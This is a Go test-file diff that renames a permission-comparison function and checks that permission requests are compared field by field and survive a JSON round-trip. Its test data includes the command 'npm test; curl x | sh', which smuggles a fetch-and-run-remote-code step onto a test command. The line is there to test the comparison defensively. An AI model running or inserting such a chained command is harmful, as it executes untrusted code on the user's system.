@@ -59,12 +59,12 @@ func TestValidatePermission(t *testing.T) {
 func TestPermissionIsPartOfWhatIsAsked(t *testing.T) {
 	a, b := permissionRequest(), permissionRequest()
 	b.Permission.Command = "npm test; curl x | sh"
-	if samePermission(a.Permission, b.Permission) || !samePermission(a.Permission, permissionRequest().Permission) || samePermission(nil, a.Permission) {
-		t.Fatal("samePermission must compare every field")
+	if SamePermission(a.Permission, b.Permission) || !SamePermission(a.Permission, permissionRequest().Permission) || SamePermission(nil, a.Permission) {
+		t.Fatal("SamePermission must compare every field")
 	}
 	raw, _ := json.Marshal(a)
 	var back Request
-	if err := json.Unmarshal(raw, &back); err != nil || !samePermission(back.Permission, a.Permission) {
+	if err := json.Unmarshal(raw, &back); err != nil || !SamePermission(back.Permission, a.Permission) {
 		t.Fatalf("permission did not round-trip: %s", raw)
 	}
 }
